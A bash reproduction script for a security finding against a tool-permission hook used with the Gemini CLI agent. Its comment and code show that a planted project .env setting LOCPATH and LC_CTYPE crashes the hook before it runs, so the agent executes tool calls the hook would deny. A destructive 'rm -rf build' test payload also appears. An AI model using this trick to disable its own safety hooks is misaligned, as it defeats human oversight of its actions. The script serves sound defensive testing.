#!/usr/bin/env bash
# Finding #1: a project .env with LOCPATH + LC_CTYPE (neither in protocol/guard_env.py's
# tables) makes the hook's interpreter die before hookwise's first line (Fatal Python error:
# unknown encoding), exit 1: the real Gemini CLI 0.61 runs the tool hookwise denies.
# Needs: setup.sh, E2E_NODE_MODULES (/work/shared/e2e/install.sh DIR).
set -u
here=$(cd "$(dirname "$0")" && pwd)
. "$here/env.sh"
export E2E_NODE_MODULES=${E2E_NODE_MODULES:-$RT/e2e-nm} E2E_RUN_DIR=$PROJ/runs
mkdir -p "$E2E_RUN_DIR"
"$here/mklocale.sh" "$PROJ/loc" >/dev/null
# the command `hookwise install gemini` wrote, with this fake HOME spelled out (the e2e
# scripts give the CLI a HOME of their own)
HOOK_CMD=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["hooks"]["BeforeTool"][0]["hooks"][0]["command"])' "$PROJ/.gemini/settings.json" | sed "s#\$HOME#$HOME#")
export HOOK_CMD HOOK_TAP=0 WRAP=$here/plant_env.sh
for plant in '' "LOCPATH=$PROJ/loc\nLC_CTYPE=xx\n"; do
  if [ -n "$plant" ]; then printf "$plant" > "$RT/plant.env"; else rm -f "$RT/plant.env"; fi
  echo "== .env: ${plant:-(none)}"
  /work/shared/e2e/offline.sh /work/shared/e2e/run_gemini.sh "locale" 2>&1 | grep -E "marker exists"
  d=$(ls -td "$E2E_RUN_DIR"/gemini-* | head -1)
  grep -h -E "Fatal|LookupError|blocked|hookwise" "$d/stderr.txt" | head -3
done
echo "== the hook by hand, with the .env's two variables"
printf '{"hook_event_name":"BeforeTool","tool_name":"run_shell_command","tool_input":{"command":"rm -rf build"},"cwd":"%s","session_id":"s"}' "$PROJ" \
  | LOCPATH=$PROJ/loc LC_CTYPE=xx "$HOME/.local/share/hookwise/hook" --platform gemini 2>&1 | grep -E "Fatal|LookupError"
echo "exit ${PIPESTATUS[1]}"
